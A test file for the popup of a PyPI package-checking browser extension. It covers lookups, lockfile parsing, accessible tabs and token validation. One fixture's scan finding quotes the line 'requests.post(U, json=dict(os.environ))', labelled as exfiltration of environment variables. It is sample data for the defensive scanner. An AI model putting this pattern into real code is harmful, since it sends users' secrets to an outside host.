// @vitest-environment happy-dom
// The popup's components with a fake background: nothing is sent for bad input, keyboard tabs work,
// the requirements table and summary render from a check result, and axe finds no structural problem.
import { readFileSync } from 'node:fs';
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/preact';
import axe from 'axe-core';
import { afterEach, describe, expect, it } from 'vitest';
import type { PopupApi } from '../../../../components/popup/api';
import { Popup } from '../../../../components/popup/Popup';
import { RECENT_KEY } from '../../../../components/popup/recent';
import type { Message, RequirementResult, RequirementsCheck } from '../../../../utils/contract/messages';
import { DEFAULT_SETTINGS } from '../../../../utils/contract/settings';
import { toPublicSettings } from '../../../../utils/contract/settings';
import { parseLookupInput } from '../../../../utils/page/lookup-input';
import type { CodeFacts } from '../../../../utils/contract/report';
import { ok, syntheticReport } from '../synthetic-facts';
import { projectFixturePath } from '../../../support/fixtures';
import { judgeDependencies } from '../../../../utils/analysis/dependency-risk';

afterEach(cleanup);

function fakeApi(answers: Partial<Record<Message['type'], (m: Message) => unknown>> = {}) {
  const sent: Message[] = [];
  const copied: string[] = [];
  const store: Record<string, unknown> = {};
  const api: PopupApi = {
    ask: (async (message: Message) => {
      sent.push(message);
      const answer = answers[message.type];
      if (answer) return answer(message);
      if (message.type === 'getSettings') return toPublicSettings(DEFAULT_SETTINGS);
      throw new Error(`unexpected ${message.type}`);
    }) as PopupApi['ask'],
    activeTabId: async () => null,
    storage: { get: async (key) => store[key], set: async (key, value) => void (store[key] = value) },
    copy: async (text) => (copied.push(text), true),
    ruleUrl: (id) => `chrome-extension://test/rules.html#${id}`,
    parseLookupInput,
  };
  return { api, sent, copied, store };
}

async function violations(container: Element): Promise<string[]> {
  const result = await axe.run(container, { rules: { 'color-contrast': { enabled: false } } });
  return result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
}

const row = (over: Partial<RequirementResult>): RequirementResult => ({
  name: 'django',
  normalizedName: 'django',
  pinned: true,
  specifier: null,
  checkedVersion: '1.11.29',
  latestVersion: null,
  onPypi: null,
  verdict: { level: 'caution', headline: 'Caution: 1 advisory affects 1.11.29' },
  advisories: [
    {
      id: 'PYSEC-2021-98',
      summary: null,
      severity: 'unknown',
      fixedIn: ['2.2.24'],
      malicious: false,
      url: 'https://osv.dev/vulnerability/PYSEC-2021-98',
      detailsLoaded: true,
    },
  ],
  upgradeTo: '2.2.24',
  notes: [],
  ...over,
});

describe('popup', () => {
  it('on a non-pypi tab says so; bad input gets a message and sends nothing', async () => {
    const { api, sent } = fakeApi();
    render(<Popup api={api} />);
    await screen.findByText(/This tab is not a pypi.org project page/);
    fireEvent.input(screen.getByLabelText('Look up a PyPI package'), { target: { value: 'pip install requests' } });
    fireEvent.click(screen.getByRole('button', { name: 'Look up' }));
    expect((await screen.findByRole('alert')).textContent).toBe(
      'That is a shell command, not a package name. Type only the package: requests',
    );
    expect(sent.filter((m) => m.type === 'lookup')).toEqual([]);
  });

  it('a lookup sends the PEP 503 name and remembers it in the recent list', async () => {
    const { api, sent, store } = fakeApi({
      lookup: () => ({
        kind: 'no-such-version',
        name: 'Django',
        version: '0.1',
        latestVersion: '5.2',
        projectUrl: 'https://pypi.org/project/django/',
      }),
    });
    render(<Popup api={api} />);
    fireEvent.input(screen.getByLabelText('Look up a PyPI package'), { target: { value: 'Django==0.1' } });
    fireEvent.click(screen.getByRole('button', { name: 'Look up' }));
    await screen.findByTestId('no-such-version');
    expect(sent.find((m) => m.type === 'lookup')).toEqual({ type: 'lookup', name: 'django', version: '0.1' });
    expect(store[RECENT_KEY]).toEqual([{ name: 'django', version: '0.1' }]);
    expect(screen.getByRole('navigation', { name: 'Recent lookups' }).textContent).toContain('django==0.1');
  });

  it('a lookup that finds a report then asks for its code checks, and shows the Code section with what is new', async () => {
    const code: CodeFacts = {
      version: '3.6.0',
      status: 'scanned',
      totalBytes: 10,
      capBytes: 10_000_000,
      hasSdist: false,
      hasWheel: true,
      distributions: [],
      findings: [
        {
          check: 'exfiltration',
          level: 'danger',
          filename: 'luigi-3.6.0-py3-none-any.whl',
          path: 'luigi/__init__.py',
          line: 2,
          excerpt: 'requests.post(U, json=dict(os.environ))',
          detail: 'Sends the environment variables over the network.',
          url: null,
          runs: 'import',
          newInRelease: true,
        },
      ],
      comparedWith: { version: '3.5.2', state: 'compared', reason: null },
    };
    const { api, sent } = fakeApi({
      lookup: () => ({ kind: 'report', report: syntheticReport() }),
      scanCode: () => syntheticReport({ code: ok(code) }),
    });
    render(<Popup api={api} />);
    fireEvent.input(screen.getByLabelText('Look up a PyPI package'), { target: { value: 'luigi' } });
    fireEvent.click(screen.getByRole('button', { name: 'Look up' }));
    const marker = await screen.findByText('new in this release');
    expect(marker.closest('[data-fact="code-finding"]')?.getAttribute('data-check')).toBe('exfiltration');
    expect(screen.getByText(/Compared with 3\.5\.2: 1 finding new in this release/)).toBeTruthy();
    expect(sent.filter((m) => m.type === 'scanCode')).toEqual([{ type: 'scanCode', name: 'luigi' }]);
  });

  it('a lookup shows its Dependencies section as soon as getDependencies answers, while the code checks still run', async () => {
    const dependencies = judgeDependencies({
      version: '3.6.0',
      requiresDist: ['tornado<7,>=5.0', 'python-daemon'],
      graph: { state: 'disabled' },
      checks: new Map(),
      checkState: { advisories: { state: 'ok' }, names: true, ages: { state: 'disabled' } },
    });
    const { api, sent } = fakeApi({
      lookup: () => ({ kind: 'report', report: syntheticReport() }),
      getDependencies: () => syntheticReport({ dependencies: ok(dependencies) }),
      // The scan never ends in this test: the graph must not wait for it.
      scanCode: () => new Promise(() => undefined),
    });
    const { container } = render(<Popup api={api} />);
    fireEvent.input(screen.getByLabelText('Look up a PyPI package'), { target: { value: 'luigi' } });
    fireEvent.click(screen.getByRole('button', { name: 'Look up' }));
    await waitFor(() => expect(container.querySelector('[data-section="dependencies"]')?.getAttribute('data-state')).toBe('ok'));
    expect(container.querySelectorAll('[data-fact="declared-requirement"]')).toHaveLength(2);
    expect(container.querySelector('[data-section="code"]')?.getAttribute('data-state')).toBe('loading');
    expect(
      sent
        .filter((m) => m.type === 'getDependencies' || m.type === 'scanCode')
        .map((m) => m.type)
        .sort(),
    ).toEqual(['getDependencies', 'scanCode']);
  });

  it('tabs follow the WAI-ARIA pattern: arrow keys move between views', async () => {
    const { api } = fakeApi();
    render(<Popup api={api} />);
    const packageTab = screen.getByRole('tab', { name: 'Package' });
    fireEvent.keyDown(packageTab, { key: 'ArrowRight' });
    expect(screen.getByRole('tab', { name: 'Requirements' }).getAttribute('aria-selected')).toBe('true');
    fireEvent.keyDown(screen.getByRole('tab', { name: 'Requirements' }), { key: 'End' });
    expect(screen.getByRole('tab', { name: 'Settings' }).getAttribute('aria-selected')).toBe('true');
    fireEvent.keyDown(screen.getByRole('tab', { name: 'Settings' }), { key: 'ArrowRight' });
    expect(screen.getByRole('tab', { name: 'Package' }).getAttribute('aria-selected')).toBe('true');
  });

  it('the requirements view sends only valid lines, shows the table, the skipped lines and a copyable summary', async () => {
    const check: RequirementsCheck = {
      results: [
        row({}),
        row({
          name: 'luigi',
          normalizedName: 'luigi',
          pinned: false,
          checkedVersion: '3.6.0',
          verdict: { level: 'info', headline: 'No known advisories for the latest release 3.6.0' },
          advisories: [],
          upgradeTo: null,
        }),
      ],
      osv: { state: 'ok' },
      checkedAt: '2026-11-25T12:00:00.000Z',
    };
    const { api, sent, copied } = fakeApi({ checkRequirements: () => check });
    const { container } = render(<Popup api={api} />);
    fireEvent.click(screen.getByRole('tab', { name: 'Requirements' }));
    fireEvent.input(screen.getByLabelText('Lockfile, requirements.txt or pip freeze output'), {
      target: { value: 'django==1.11.29\n-r dev.txt\nluigi>=3\npip install six\n' },
    });
    fireEvent.click(screen.getByRole('button', { name: 'Check' }));
    await screen.findByTestId('requirements-table');
    expect(sent.find((m) => m.type === 'checkRequirements')).toEqual({
      type: 'checkRequirements',
      requirements: [
        { name: 'django', pinned: '1.11.29', specifier: null },
        { name: 'luigi', pinned: null, specifier: '>=3' },
      ],
    });
    expect(screen.getByTestId('requirements-table').querySelector('tr[data-package="django"] [data-fact="upgrade-to"]')?.textContent).toBe(
      '2.2.24',
    );
    expect(screen.getByTestId('unchecked-lines').textContent).toMatch(
      /Not understood line 4: pip install six[\s\S]*Skipped line 2: -r dev.txt/,
    ); // what needs fixing first
    const summary = (screen.getByTestId('summary') as HTMLTextAreaElement).value;
    expect(summary).toMatch(
      /^CAUTION line 1: django==1\.11\.29 — Caution: 1 advisory affects 1\.11\.29 → upgrade to 2\.2\.24 \[PYSEC-2021-98\]$/m,
    );
    expect(summary).toMatch(/^INVALID line 4: pip install six/m);
    fireEvent.click(screen.getByRole('button', { name: 'Copy summary' }));
    await waitFor(() => expect(screen.getByTestId('copy-status').textContent).toBe('Summary copied.'));
    expect(copied).toEqual([summary]);
    expect(await violations(container)).toEqual([]);
  });

  it('a pasted poetry.lock: every PyPI package sent pinned in one check; hashes, sources and other indexes shown', async () => {
    const text = readFileSync(projectFixturePath('lockfile-poetry-web-service.lock'), 'utf8');
    const { api, sent } = fakeApi({
      checkRequirements: (m) => ({
        results: (m as Extract<Message, { type: 'checkRequirements' }>).requirements.map((r) =>
          row({
            name: r.name,
            normalizedName: r.name,
            checkedVersion: r.pinned,
            advisories: [],
            upgradeTo: null,
            verdict: { level: 'info', headline: `No known advisories for ${r.pinned}` },
          }),
        ),
        osv: { state: 'ok' },
        checkedAt: '2026-11-25T12:00:00.000Z',
      }),
    });
    const { container } = render(<Popup api={api} />);
    fireEvent.click(screen.getByRole('tab', { name: 'Requirements' }));
    fireEvent.input(screen.getByLabelText('Lockfile, requirements.txt or pip freeze output'), { target: { value: text } });
    fireEvent.click(screen.getByRole('button', { name: 'Check' }));
    const table = await screen.findByTestId('requirements-table');
    const request = sent.find((m) => m.type === 'checkRequirements') as Extract<Message, { type: 'checkRequirements' }>;
    expect(request.requirements).toHaveLength(16);
    expect(request.requirements[0]).toEqual({ name: 'django', pinned: '1.11.29', specifier: null });
    expect(screen.getByTestId('requirements-status').getAttribute('data-format')).toBe('poetry.lock');
    expect(table.querySelector('tr[data-package="django"] [data-fact="hashes"] summary')?.textContent).toBe('2 hashes');
    expect(table.querySelectorAll('tr[data-package="django"] [data-fact="hashes"] li')).toHaveLength(2);
    expect(screen.getByTestId('unchecked-lines').textContent).toContain(
      'acme-utils 1.4.2 — not checked: from https://packages.example.com/simple — another index than PyPI.',
    );
    const summary = (screen.getByTestId('summary') as HTMLTextAreaElement).value;
    expect(summary.split('\n')[0]).toBe('PyPI Trust Panel lockfile check (poetry.lock), 2026-11-25 12:00 UTC');
    expect(summary).toMatch(/^SKIPPED line 195: acme-utils 1\.4\.2 — not checked: from https:\/\/packages\.example\.com\/simple/m);
    expect(await violations(container)).toEqual([]);
  });

  it('a chosen file is read by its content (a uv.lock named requirements.txt) and checked at once', async () => {
    const text = readFileSync(projectFixturePath('lockfile-uv-web-service.lock'), 'utf8');
    const { api, sent } = fakeApi({
      checkRequirements: (m) => ({
        results: (m as Extract<Message, { type: 'checkRequirements' }>).requirements.map((r) =>
          row({ name: r.name, normalizedName: r.name, checkedVersion: r.pinned, advisories: [], upgradeTo: null }),
        ),
        osv: { state: 'ok' },
        checkedAt: '2026-11-25T12:00:00.000Z',
      }),
    });
    render(<Popup api={api} />);
    fireEvent.click(screen.getByRole('tab', { name: 'Requirements' }));
    const input = screen.getByTestId('requirements-file') as HTMLInputElement;
    Object.defineProperty(input, 'files', { value: [new File([text], 'requirements.txt', { type: 'text/plain' })], configurable: true });
    fireEvent.change(input);
    const table = await screen.findByTestId('requirements-table');
    expect(screen.getByTestId('requirements-status').getAttribute('data-format')).toBe('uv.lock');
    expect(sent.filter((m) => m.type === 'checkRequirements')).toHaveLength(1);
    expect(table.querySelector('tr[data-package="django"] [data-fact="source"]')?.textContent).toBe('from https://pypi.org/simple');
    expect(screen.getByTestId('unchecked-lines').querySelectorAll('li[data-kind="skipped"]')).toHaveLength(5);
  });

  it('settings: a malformed token is refused locally; the views have no axe violations', async () => {
    const { api, sent } = fakeApi();
    const { container } = render(<Popup api={api} />);
    fireEvent.click(screen.getByRole('tab', { name: 'Settings' }));
    const input = await screen.findByLabelText(/Personal access token/);
    fireEvent.input(input, { target: { value: 'my password' } });
    fireEvent.click(screen.getByRole('button', { name: 'Check and save' }));
    expect((await screen.findByTestId('token-message')).textContent).toMatch(/not a GitHub token/);
    expect(sent.filter((m) => m.type === 'validateToken')).toEqual([]);
    expect(await violations(container)).toEqual([]);
  });
});
